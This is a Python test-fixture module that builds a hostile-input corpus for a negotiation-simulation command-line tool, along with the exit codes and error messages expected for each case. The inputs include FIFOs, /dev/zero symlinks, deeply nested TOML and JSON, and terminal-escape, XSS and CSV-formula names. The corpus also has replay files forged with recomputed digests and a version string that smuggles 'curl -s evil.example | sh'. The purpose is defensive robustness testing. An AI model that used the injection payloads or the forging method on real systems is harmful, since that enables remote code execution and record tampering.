"""The hostile-input corpus: every file, option and request an attacker or an accident can hand a
command, built into a folder, with what the command must do with it.

Each `Case` is one command run as a process (`python -m sim ...`) under a timeout and a memory
limit. Files that cannot live in git (FIFOs, symlinks to /dev/zero, forged games, which need the
installed code to fold the moves) are made by `build`; the rest are written from text here. The
forged games are forged the way a participant would: edit the header, fold the moves again with
the rules to re-write every digest and the end line, and recompute the header's check, so only
the chance check can catch them.

Kinds: scenario, lessons (a lesson path file), replay, pack, save, history, option, report
(names in the class report). The HTTP requests for `leverage serve` are in `http_requests.json`
beside this file.
"""

from __future__ import annotations

import json
import os
import sqlite3
from collections.abc import Callable
from pathlib import Path

from attrs import frozen

from sim.ai.match import Match
from sim.ai.selfplay import Lineup, play_games
from sim.core.catalogue import resolve_scenario, shipped_folder
from sim.core.moves import Move
from sim.core.state import Game
from sim.record.replay import Player, write_replay
from sim.record.replay.types import header_check
from sim.record.replay.writer import end_line
from sim.record.workshop import Seat, new_pack, write_pack


@frozen
class Case:
    id: str
    kind: str
    argv: tuple[str, ...]
    rc: int  # the exit status the command must end with
    says: str  # a substring of the output (stderr, else stdout) that says what is wrong
    names: str | None = None  # the file the one-line error must name
    one_line: bool = True  # stderr is exactly one line
    stdout_lacks: tuple[str, ...] = ()  # what must not reach the output (raw control, HTML)
    seconds: float = 30.0


def _job_offer_text() -> str:
    return (shipped_folder() / "job-offer.toml").read_text(encoding="utf-8")


def _scenario_files(root: Path) -> dict[str, Path]:
    text = _job_offer_text()
    files = {
        "bigint": "format = " + "9" * 5000 + "\n",
        "digits25": text.replace("max_rounds = ", "max_rounds = 1000000000000000000000000 #", 1),
        "nested-arrays": "x = " + "[" * 3000 + "]" * 3000 + "\n",
        "nested-tables": "x = " + "{a = " * 3000 + "1" + "}" * 3000 + "\n",
        "dotted-key": ".".join(["a"] * 20_000) + " = 1\n",
        "too-big": "# " + "x" * (300 * 1024) + "\n",
        "not-utf8": None,
    }
    out = {}
    for name, body in files.items():
        path = root / f"{name}.toml"
        if body is None:
            path.write_bytes(b'id = "\xff\xfe"\n')
        else:
            path.write_text(body, encoding="utf-8")
        out[name] = path
    # Text that acts on the terminal showing it: an ESC that clears the screen and an OSC that
    # retitles the window, in the title simulate prints; a bidi override in an option's label.
    escape = root / "escape-title.toml"
    escape.write_text(
        text.replace('title = "The Offer"', 'title = "\\u001b[2J\\u001b]0;pwned\\u0007The Offer"'),
        encoding="utf-8",
    )
    out["escape-title"] = escape
    bidi = root / "bidi-label.toml"
    bidi.write_text(text.replace('"$88,000"', '"\\u202e000,88$"'), encoding="utf-8")
    out["bidi-label"] = bidi
    # Both BATNAs at 20,000 where every package is worth 0-100: in range for a number, but
    # every counterpart's belief overflowed and the first move was an IndexError traceback.
    far = root / "batna-far.toml"
    far.write_text(
        _with_batna(text, "20000").replace("batna = { low = 30, high = 44 }", "batna = 20000"),
        encoding="utf-8",
    )
    out["batna-far"] = far
    # A third role: one line says so, not a line for every option's points keyed by the roles.
    three = root / "three-roles.toml"
    three.write_text(
        text.replace(
            "[roles.employer]",
            '[roles.boss]\nname = "Boss"\npublic_brief = "b"\nprivate_brief = "b"\nbatna = 1\n'
            "\n[roles.employer]",
        ),
        encoding="utf-8",
    )
    out["three-roles"] = three
    # Saved by Windows Notepad: a byte-order mark first, and CRLF line ends.
    notepad = root / "notepad.toml"
    notepad.write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8"))
    out["notepad"] = notepad
    # BATNAs that validate in shape but overflow a draw: 1e18 fixed, and a 1e18 range.
    batna = root / "batna-1e18.toml"
    batna.write_text(_with_batna(text, "1e18"), encoding="utf-8")
    out["batna-1e18"] = batna
    return out


def _with_batna(text: str, value: str) -> str:
    lines = text.splitlines()
    for index, line in enumerate(lines):
        if line.strip().startswith("batna ="):
            lines[index] = f"batna = {value}"
            break
    else:  # pragma: no cover - the shipped scenario has a batna line
        raise AssertionError("no batna line in job-offer.toml")
    return "\n".join(lines) + "\n"


def _special_files(root: Path) -> dict[str, Path]:
    out = {}
    for name in ("zero.toml", "zero.jsonl"):
        (root / name).symlink_to("/dev/zero")
        out[name] = root / name
    for name in ("fifo.toml", "fifo.jsonl"):
        os.mkfifo(root / name)
        out[name] = root / name
    return out


# -- games, honest and forged -----------------------------------------------------------------


def _honest_game(root: Path, seed: int = 4) -> Path:
    scenario = resolve_scenario("job-offer")
    lineup = Lineup.for_role(0, "reciprocator", "hardliner", "normal")
    match = next(iter(play_games(scenario, seed, 1, lineup)))
    players = (Player(lineup.personas[0]), Player(lineup.personas[1]))
    return write_replay(match, root / f"honest-seed{seed}.jsonl", players, "normal")


def _lines(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def _write(path: Path, lines: list[dict]) -> Path:
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    return path


def forge(source: Path, target: Path, edit: Callable[[dict], None], refold: bool = True) -> Path:
    """`source` with its header edited by `edit`; with `refold`, the moves folded again through
    the rules from the edited chance so every digest, event and the end line agree with it, and
    the header's check recomputed: what a careful forger hands in."""
    lines = _lines(source)
    header = lines[0]
    edit(header)
    if refold:
        scenario = resolve_scenario(header["scenario"])
        chance = header["chance"]
        game = Game.restore(
            scenario, header["seed"], tuple(chance["batna"]), tuple(chance["event_rounds"])
        )
        match = Match(game, (None, None))
        for line in lines[1:]:
            if "end" in line:
                line.clear()
                line.update(json.loads(json.dumps(end_line(match.state, len(match.turns)))))
                continue
            turn = match.apply(Move.from_dict(line["move"]))
            line["events"] = [event.to_dict(scenario) for event in turn.events]
            line["digest"] = turn.state.digest()
        header["check"] = header_check(header)
    return _write(target, lines)


def _edit_line(source: Path, target: Path, index: int, edit: Callable[[dict], None]) -> Path:
    lines = _lines(source)
    edit(lines[index])
    return _write(target, lines)


# Participants' names as a person can type them (sim.record.workshop.check_name lets punctuation
# through): the report must show them as text, never run them.
HOSTILE_NAMES = ("<script>alert(1)</script>", "=1+2")
# What a forger writes as the version that recorded a game: printed in advice to install it.
SHELL_VERSION = "0.0.9'; curl -s evil.example | sh; echo '"


def _workshop(root: Path) -> tuple[Path, Path, list[Path]]:
    """A pack and a small class folder: honest games by named participants (three ordinary
    names, then the two in HOSTILE_NAMES)."""
    from workshop_players import play_seat

    pack = new_pack(resolve_scenario("job-offer"), 3, persona="reciprocator")
    pack_path = write_pack(pack, root / "pack.toml")
    folder = root / "class"
    games = []
    names = (("Ada", "problem-solver"), ("Ben", "conceder"), ("Chloe", "hardliner"))
    for name, style in names + tuple((n, "linear") for n in HOSTILE_NAMES):
        seat = Seat.of(pack, name)
        games.append(seat.save(play_seat(seat, style), folder))
    return pack_path, folder, games


def _history(root: Path) -> Path:
    home = root / "home-history"
    home.mkdir()
    database = home / "history.sqlite3"
    from sim.record.history import _SCHEMA

    connection = sqlite3.connect(database)
    connection.executescript(_SCHEMA)
    good = ("2026-01-01T10:00:00", "job-offer", "candidate", "linear", "normal", 3, "deal", 5)
    connection.execute(
        "INSERT INTO games (played_at, scenario, role, persona, difficulty, seed, outcome, rounds,"
        " points, batna, surplus_share, efficiency, replay) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?)",
        (*good, 40.0, 30.0, 0.5, 0.9, None),
    )
    # SQLite keeps whatever it is given: text in points, NULL in a NOT NULL column is refused,
    # so the damaged rows carry text where numbers go and a number where text goes.
    connection.execute(
        "INSERT INTO games (played_at, scenario, role, persona, difficulty, seed, outcome, rounds,"
        " points, batna, surplus_share, efficiency, replay) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?)",
        (*good, "lots", 30.0, None, None, None),
    )
    connection.execute(
        "INSERT INTO games (played_at, scenario, role, persona, difficulty, seed, outcome, rounds,"
        " points, batna, surplus_share, efficiency, replay) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?)",
        ("2026-01-02", 7, "candidate", "\x1b[2J", "normal", "x", "deal", 5, 1, 1, 9, 9, None),
    )
    connection.commit()
    connection.close()
    return home


# -- the cases -------------------------------------------------------------------------------


def build(root: Path) -> tuple[list[Case], dict[str, Path]]:
    """Write the corpus into `root`; return the cases and the paths the test needs."""
    root.mkdir(parents=True, exist_ok=True)
    s = _scenario_files(root)
    x = _special_files(root)
    honest = _honest_game(root)
    pack_path, folder, games = _workshop(root)
    named = games[0]
    history_home = _history(root)

    def rnd(name: str) -> str:
        return str(root / name)

    forged = {
        # A participant's BATNA of 900 where the candidate's range is 30-44; every digest
        # re-written. The person's moves are not re-run, so only the chance check sees it.
        "batna-900": forge(named, root / "forged-batna.jsonl", _set_batna(900.0)),
        # Seed 3 never brings "finalist-withdraws"; the file says it happened in round 5...
        "event-never": forge(named, root / "forged-event.jsonl", _set_event(1, 5)),
        # ...and the scheduled "offer-expires" (round 6) recorded as never happening.
        "event-outside": forge(named, root / "forged-window.jsonl", _set_event(0, None)),
        # A participant's name changed after the game, the check left as it was.
        "name-edited": forge(named, root / "name-edited.jsonl", _set_name("Zed"), refold=False),
        # A name that clears the trainer's screen, with the check recomputed.
        "name-escape": forge(named, root / "name-escape.jsonl", _set_name("\x1b[2JMallory")),
        "seed-2-63": forge(honest, root / "seed-2-63.jsonl", _set("seed", 2**63), refold=False),
        # A scenario file named with a NUL byte: os.open's ValueError was a traceback.
        "source-nul": forge(
            honest,
            root / "source-nul.jsonl",
            lambda h: h.update(scenario="nowhere", scenario_source="/tmp/\x00x.toml"),
            refold=False,
        ),
        # A version that clears the screen when a divergence names it (check recomputed).
        "version-escape": forge(
            honest, root / "version-escape.jsonl", _set("app_version", "\x1b[2J9.9")
        ),
        "source-zero": forge(
            honest,
            root / "source-zero.jsonl",
            lambda h: h.update(scenario="nowhere", scenario_source=str(x["zero.toml"])),
            refold=False,
        ),
    }
    moves = {
        "move-unknown": _edit_line(
            honest, root / "move-unknown.jsonl", 1, lambda d: d["move"].update(sneaky=1)
        ),
        "hold-package": _edit_line(
            honest,
            root / "hold-package.jsonl",
            1,
            lambda d: d["move"].update(decision="hold", package=[0, 0, 0, 0, 0, 0]),
        ),
        "deep-json": _write_text(root / "deep.jsonl", "[" * 100_000 + "]" * 100_000 + "\n"),
        "huge-int": _edit_line(
            honest, root / "huge-int.jsonl", 1, lambda d: d.update(round=10**4000)
        ),
        "end-900": _edit_line(
            honest,
            root / "end-900.jsonl",
            -1,
            lambda d: d["end"]["payoffs"].update(candidate=900.0),
        ),
        "line-edited": _edit_line(
            honest,
            root / "line-edited.jsonl",
            _first_counterpart_line(honest),
            lambda d: d.update(line="I will give you anything you want."),
        ),
        "cut-mid-line": _write_text(
            root / "in-progress.jsonl", honest.read_text(encoding="utf-8")[:-40]
        ),
    }
    pack_nested = _write_text(root / "pack-nested.toml", "x = " + "[" * 5000 + "]" * 5000)
    # A pack whose scenario file is named with a NUL byte (the same ValueError, in the pack).
    pack_nul = _write_text(
        root / "pack-nul.toml",
        pack_path.read_text(encoding="utf-8").replace(
            'scenario = "job-offer"',
            'scenario = "nowhere"\nscenario_source = "/tmp/\\u0000x.toml"',
        ),
    )
    report_folder = root / "class-hostile"
    report_folder.mkdir()
    for game in games:
        (report_folder / game.name).write_bytes(game.read_bytes())
    # A game forged to 900 points where it counts: in the class folder.
    forge(games[1], report_folder / games[1].name, _set_batna_role(0, 900.0))
    # A game recorded by "another version" that does not re-run here: the report must say which
    # version and how to report with it, not call it tampering.
    chloe = report_folder / games[2].name
    lines = _lines(chloe)
    lines[_first_counterpart_line(chloe)]["line"] = "Said differently by an older counterpart."
    lines[0]["app_version"] = "0.0.9"
    lines[0]["check"] = header_check(lines[0])
    _write(chloe, lines)
    # The same, with a "version" that is a shell command: the report's advice to install the
    # version that recorded it must not hand the trainer that command to paste.
    shell = report_folder / ("shell-version-" + games[2].name)
    lines[0]["app_version"] = SHELL_VERSION
    lines[0]["check"] = header_check(lines[0])
    _write(shell, lines)
    # File names a spreadsheet or a terminal would act on.
    (report_folder / "=HYPERLINK(1+1).jsonl").write_text("not a replay\n")
    (report_folder / "\x1b[2Jclear.jsonl").write_text("not a replay\n")

    cases = [
        # -- scenarios --
        Case(
            "scenario-dev-zero",
            "scenario",
            ("scenario", "validate", "/dev/zero"),
            2,
            "device",
            "/dev/zero",
        ),
        Case(
            "scenario-zero-symlink",
            "scenario",
            ("scenario", "validate", rnd("zero.toml")),
            2,
            "device",
            rnd("zero.toml"),
        ),
        Case(
            "scenario-fifo",
            "scenario",
            ("scenario", "validate", rnd("fifo.toml")),
            2,
            "pipe",
            rnd("fifo.toml"),
        ),
        Case(
            "simulate-zero",
            "scenario",
            ("simulate", rnd("zero.toml")),
            2,
            "device",
            rnd("zero.toml"),
        ),
        Case(
            "simulate-fifo", "scenario", ("simulate", rnd("fifo.toml")), 2, "pipe", rnd("fifo.toml")
        ),
        Case("play-zero", "scenario", ("play", rnd("zero.toml")), 2, "device", rnd("zero.toml")),
        Case(
            "scenario-bigint",
            "scenario",
            ("scenario", "validate", str(s["bigint"])),
            2,
            "digits",
            str(s["bigint"]),
        ),
        Case(
            "scenario-25-digits",
            "scenario",
            ("scenario", "validate", str(s["digits25"])),
            2,
            "max_rounds",
            str(s["digits25"]),
            stdout_lacks=("1000000000000000000000000",),
        ),
        Case(
            "scenario-nested-arrays",
            "scenario",
            ("scenario", "validate", str(s["nested-arrays"])),
            2,
            "nested",
            str(s["nested-arrays"]),
        ),
        Case(
            "scenario-nested-tables",
            "scenario",
            ("scenario", "validate", str(s["nested-tables"])),
            2,
            "nested",
            str(s["nested-tables"]),
        ),
        Case(
            "scenario-dotted-key",
            "scenario",
            ("scenario", "validate", str(s["dotted-key"])),
            2,
            "dotted key",
            str(s["dotted-key"]),
            seconds=10,
        ),
        Case(
            "scenario-too-big",
            "scenario",
            ("scenario", "validate", str(s["too-big"])),
            2,
            "at most",
            str(s["too-big"]),
        ),
        Case(
            "scenario-not-utf8",
            "scenario",
            ("scenario", "validate", str(s["not-utf8"])),
            2,
            "UTF-8",
            str(s["not-utf8"]),
        ),
        Case(
            "scenario-batna-1e18",
            "scenario",
            ("scenario", "validate", str(s["batna-1e18"])),
            2,
            "batna",
            str(s["batna-1e18"]),
        ),
        Case(
            "simulate-batna-1e18",
            "scenario",
            ("simulate", str(s["batna-1e18"])),
            2,
            "batna",
            str(s["batna-1e18"]),
        ),
        Case(
            "simulate-escape-title",
            "scenario",
            ("simulate", str(s["escape-title"]), "--games", "1", "--jobs", "1"),
            2,
            "title: a control character (U+001B)",
            str(s["escape-title"]),
            stdout_lacks=("\x1b",),
        ),
        Case(
            "check-escape-title",
            "scenario",
            ("scenario", "check", str(s["escape-title"]), "--games", "1", "--jobs", "1"),
            2,
            "control character",
            str(s["escape-title"]),
            stdout_lacks=("\x1b",),
        ),
        Case(
            "scenario-bidi-label",
            "scenario",
            ("scenario", "validate", str(s["bidi-label"])),
            2,
            "label: a control character (U+202E)",
            str(s["bidi-label"]),
        ),
        Case(
            "simulate-batna-far",
            "scenario",
            ("simulate", str(s["batna-far"]), "--games", "3", "--jobs", "1"),
            2,
            "batna: expected a BATNA from -100 to 200",
            str(s["batna-far"]),
            one_line=False,  # one line a role: both are out of reach
        ),
        Case(
            "scenario-notepad-bom",
            "scenario",
            ("scenario", "validate", str(s["notepad"])),
            0,
            "notepad.toml: ok",
            one_line=False,
        ),
        Case(
            "scenario-three-roles",
            "scenario",
            ("scenario", "validate", str(s["three-roles"])),
            2,
            "roles: expected exactly two roles (got 3)",
            str(s["three-roles"]),
        ),
        Case(
            "scenario-shipped-id",
            "scenario",
            ("scenario", "validate", "job-offer"),
            0,
            "job-offer: ok",
            one_line=False,
        ),
        # -- lesson path files: the same safe reader and bounded parsing as a scenario --
        Case(
            "lessons-path-fifo",
            "lessons",
            ("lessons", "--path", rnd("fifo.toml")),
            2,
            "pipe",
            rnd("fifo.toml"),
        ),
        Case(
            "lessons-validate-zero",
            "lessons",
            ("lessons", "validate", rnd("zero.toml")),
            2,
            "device",
            rnd("zero.toml"),
        ),
        Case(
            "lessons-validate-nested",
            "lessons",
            ("lessons", "validate", str(s["nested-arrays"])),
            2,
            "nested",
            str(s["nested-arrays"]),
        ),
        Case(
            "lessons-path-bigint",
            "lessons",
            ("lessons", "--path", str(s["bigint"])),
            2,
            "digits",
            str(s["bigint"]),
        ),
        Case(
            "lessons-validate-dotted-key",
            "lessons",
            ("lessons", "validate", str(s["dotted-key"])),
            2,
            "dotted key",
            str(s["dotted-key"]),
            seconds=10,
        ),
        # -- replays --
        Case(
            "verify-zero",
            "replay",
            ("replay", "verify", rnd("zero.jsonl")),
            2,
            "device",
            rnd("zero.jsonl"),
        ),
        Case(
            "verify-fifo",
            "replay",
            ("replay", "verify", rnd("fifo.jsonl")),
            2,
            "pipe",
            rnd("fifo.jsonl"),
        ),
        Case(
            "debrief-zero", "replay", ("debrief", rnd("zero.jsonl")), 2, "device", rnd("zero.jsonl")
        ),
        Case(
            "debrief-fifo", "replay", ("debrief", rnd("fifo.jsonl")), 2, "pipe", rnd("fifo.jsonl")
        ),
        Case(
            "verify-forged-batna",
            "replay",
            ("replay", "verify", str(forged["batna-900"])),
            2,
            "chance.batna",
            str(forged["batna-900"]),
        ),
        Case(
            "verify-forged-event-never",
            "replay",
            ("replay", "verify", str(forged["event-never"])),
            2,
            "chance.event_rounds",
            str(forged["event-never"]),
        ),
        Case(
            "verify-forged-event-window",
            "replay",
            ("replay", "verify", str(forged["event-outside"])),
            2,
            "chance.event_rounds",
            str(forged["event-outside"]),
        ),
        Case(
            "debrief-forged-batna",
            "replay",
            ("debrief", str(forged["batna-900"])),
            2,
            "chance.batna",
            str(forged["batna-900"]),
            stdout_lacks=("900",),
        ),
        Case(
            "verify-name-edited",
            "replay",
            ("replay", "verify", str(forged["name-edited"])),
            2,
            "check",
            str(forged["name-edited"]),
        ),
        Case(
            "verify-name-escape",
            "replay",
            ("replay", "verify", str(forged["name-escape"])),
            2,
            "control",
            str(forged["name-escape"]),
            stdout_lacks=("\x1b",),
        ),
        Case(
            "verify-seed-2-63",
            "replay",
            ("replay", "verify", str(forged["seed-2-63"])),
            2,
            "seed",
            str(forged["seed-2-63"]),
        ),
        Case(
            "verify-source-zero",
            "replay",
            ("replay", "verify", str(forged["source-zero"])),
            2,
            "scenario",
            str(forged["source-zero"]),
        ),
        Case(
            "verify-source-nul",
            "replay",
            ("replay", "verify", str(forged["source-nul"])),
            2,
            "scenario_source: control characters",
            str(forged["source-nul"]),
        ),
        Case(
            "debrief-source-nul",
            "replay",
            ("debrief", str(forged["source-nul"])),
            2,
            "scenario_source",
            str(forged["source-nul"]),
        ),
        Case(
            "verify-version-escape",
            "replay",
            ("replay", "verify", str(forged["version-escape"])),
            2,
            "app_version: expected a version",
            str(forged["version-escape"]),
        ),
        Case(
            "verify-move-unknown-field",
            "replay",
            ("replay", "verify", str(moves["move-unknown"])),
            2,
            "move.sneaky: unknown field",
            str(moves["move-unknown"]),
        ),
        Case(
            "verify-hold-package",
            "replay",
            ("replay", "verify", str(moves["hold-package"])),
            2,
            "move.package: unknown field",
            str(moves["hold-package"]),
        ),
        Case(
            "verify-deep-json",
            "replay",
            ("replay", "verify", str(moves["deep-json"])),
            2,
            "",
            str(moves["deep-json"]),
        ),
        Case(
            "verify-huge-int",
            "replay",
            ("replay", "verify", str(moves["huge-int"])),
            2,
            "round: expected a whole number",
            str(moves["huge-int"]),
        ),
        Case(
            "debrief-end-900",
            "replay",
            ("debrief", str(moves["end-900"])),
            2,
            "end.payoffs",
            str(moves["end-900"]),
        ),
        Case(
            "debrief-line-edited",
            "replay",
            ("debrief", str(moves["line-edited"])),
            0,
            "not verified",
            str(moves["line-edited"]),
        ),
        # -- packs --
        Case(
            "report-pack-fifo",
            "pack",
            ("workshop", "report", str(folder), "--pack", rnd("fifo.toml")),
            2,
            "pipe",
            rnd("fifo.toml"),
        ),
        Case(
            "play-pack-zero",
            "pack",
            ("play", "--pack", rnd("zero.toml"), "--name", "Ada"),
            2,
            "device",
            rnd("zero.toml"),
        ),
        Case(
            "play-pack-source-nul",
            "pack",
            ("play", "--pack", str(pack_nul), "--name", "Ada"),
            2,
            "not found",
            str(pack_nul),
        ),
        Case(
            "report-pack-nested",
            "pack",
            ("workshop", "report", str(folder), "--pack", str(pack_nested)),
            2,
            "nested",
            str(pack_nested),
        ),
        Case(
            "new-pack-overwrite",
            "pack",
            ("workshop", "new", "job-offer", "--seed", "5", "--out", str(pack_path)),
            2,
            "already exists",
            str(pack_path),
        ),
        Case(
            "report-missing-folder",
            "pack",
            ("workshop", "report", rnd("no-such-folder")),
            2,
            "no such folder",
            rnd("no-such-folder"),
        ),
        # -- saves: a game in progress is a replay without its end line --
        Case(
            "save-cut-mid-line",
            "save",
            ("replay", "verify", "--partial", str(moves["cut-mid-line"])),
            2,
            "cut short",
            str(moves["cut-mid-line"]),
        ),
        # -- history rows --
        Case(
            "history-wrong-types",
            "history",
            ("history",),
            0,
            "damaged row",
            None,
            stdout_lacks=("\x1b",),
        ),
        Case(
            "history-no-such-scenario",
            "history",
            ("history", "--scenario", "nosuch"),
            0,
            "No games of scenario 'nosuch'",
            None,
            one_line=False,
        ),
        # -- command-line options --
        Case(
            "seed-negative", "option", ("simulate", "job-offer", "--seed", "-1"), 2, "--seed", None
        ),
        Case(
            "seed-2-63",
            "option",
            ("simulate", "job-offer", "--seed", str(2**63)),
            2,
            "--seed",
            None,
        ),
        Case(
            "seed-20-digits-play",
            "option",
            ("play", "job-offer", "--seed", "9" * 20),
            2,
            "--seed",
            None,
        ),
        Case("seed-float", "option", ("simulate", "job-offer", "--seed", "1e3"), 2, "--seed", None),
        Case(
            "seed-last-runs-past",
            "option",
            ("simulate", "job-offer", "--seed", str(2**63 - 1), "--games", "2"),
            2,
            "last seed",
            None,
        ),
        Case(
            "games-huge",
            "option",
            ("simulate", "job-offer", "--games", "9" * 4000),
            2,
            "--games",
            None,
        ),
        Case("port-zero", "option", ("serve", "--port", "0"), 2, "--port", None),
        # An empty host binds every address (and then named --allow-origin, not given); a host
        # with an escape was "Invalid IPv6 URL"; a bad --public-url was blamed on --allow-origin.
        Case("serve-host-empty", "option", ("serve", "--host", ""), 2, "--host ''", None),
        Case(
            "serve-host-escape",
            "option",
            ("serve", "--host", "a\x1b[2J["),
            2,
            "--host 'a\\x1b[2J['",
            None,
            stdout_lacks=("\x1b",),
        ),
        Case(
            "serve-public-url-script",
            "option",
            ("serve", "--public-url", "javascript:alert(1)"),
            2,
            "--public-url: expected a URL",
            None,
        ),
        Case(
            "serve-public-url-bracket",
            "option",
            ("serve", "--public-url", "http://[oops:8000"),
            2,
            "--public-url: expected a URL",
            None,
        ),
        # A file where --save's folder should be: "File exists" named nothing the user could do.
        Case(
            "simulate-save-file",
            "option",
            ("simulate", "job-offer", "--games", "1", "--jobs", "1", "--save", str(honest)),
            2,
            "--save " + str(honest) + ": not a folder",
            None,
        ),
        # Seeds past the largest for the last variant: the line names the bound, not "from 0 up".
        Case(
            "pack-seed-past-the-last",
            "option",
            (
                "workshop",
                "new",
                "job-offer",
                "--seed",
                str(2**63 - 1),
                "--variants",
                "2",
                "--out",
                rnd("never-written.toml"),
            ),
            2,
            f"seed: expected a whole number from 0 to {2**63 - 3} with 2 variant(s)",
            None,
        ),
        # A file where the workshop folder should be: said before the game, not after it.
        Case(
            "play-workshop-file",
            "option",
            ("play", "job-offer", "--workshop", str(honest)),
            2,
            "not a folder",
            str(honest),
            seconds=20,
        ),
        Case("turn-negative", "option", ("replay", str(honest), "--turn", "-3"), 2, "--turn", None),
        # -- names in the class report --
        Case(
            "report-csv-formula",
            "report",
            ("workshop", "report", str(report_folder), "--format", "csv"),
            0,
            "'=HYPERLINK",
            None,
            one_line=False,
            stdout_lacks=("\n=HYPERLINK", ",=HYPERLINK", "\x1b"),
        ),
        # A code or a scenario name too long to be a file name (ENAMETOOLONG was a traceback).
        Case(
            "pack-code-50k",
            "option",
            ("play", "--pack", "A" * 50_000, "--name", "Ada"),
            2,
            "not a pack code",
            None,
        ),
        Case(
            "scenario-name-50k",
            "option",
            ("simulate", "a" * 50_000),
            2,
            "no such scenario",
            None,
        ),
        Case(
            "report-markdown-no-html",
            "report",
            ("workshop", "report", str(report_folder), "--format", "markdown"),
            0,
            "&lt;script&gt;",
            None,
            one_line=False,
            stdout_lacks=("<script", "\x1b"),
        ),
        Case(
            "report-csv-formula-name",
            "report",
            ("workshop", "report", str(report_folder), "--format", "csv"),
            0,
            "'=1+2",
            None,
            one_line=False,
            stdout_lacks=("\n=1+2",),
        ),
        Case(
            "report-other-version",
            "report",
            ("workshop", "report", str(report_folder)),
            0,
            "pip install 'leverage==0.0.9'",
            None,
            one_line=False,
        ),
        Case(
            "report-version-shell",
            "report",
            ("workshop", "report", str(report_folder)),
            0,
            "app_version: expected a version",
            None,
            one_line=False,
            stdout_lacks=("curl",),
        ),
        Case(
            "report-text-escape",
            "report",
            ("workshop", "report", str(report_folder)),
            0,
            "damaged or edited",
            None,
            one_line=False,
            stdout_lacks=("\x1b",),
        ),
    ]
    paths = {
        "history_home": history_home,
        "honest": honest,
        "report_folder": report_folder,
        "pack": pack_path,
        "named": named,
        "folder": folder,
    }
    return cases, paths


def _write_text(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def _set(key: str, value: object) -> Callable[[dict], None]:
    return lambda header: header.update({key: value})


def _set_batna(value: float) -> Callable[[dict], None]:
    return _set_batna_role(0, value)


def _set_batna_role(role: int, value: float) -> Callable[[dict], None]:
    def edit(header: dict) -> None:
        header["chance"]["batna"][role] = value

    return edit


def _set_event(index: int, value: int | None) -> Callable[[dict], None]:
    def edit(header: dict) -> None:
        header["chance"]["event_rounds"][index] = value

    return edit


def _set_name(name: str) -> Callable[[dict], None]:
    def edit(header: dict) -> None:
        role = next(iter(header["names"]))
        header["names"][role] = name

    return edit


def _first_counterpart_line(path: Path) -> int:
    for index, line in enumerate(_lines(path)):
        if index and "line" in line:
            return index
    raise AssertionError("no counterpart line in the honest game")
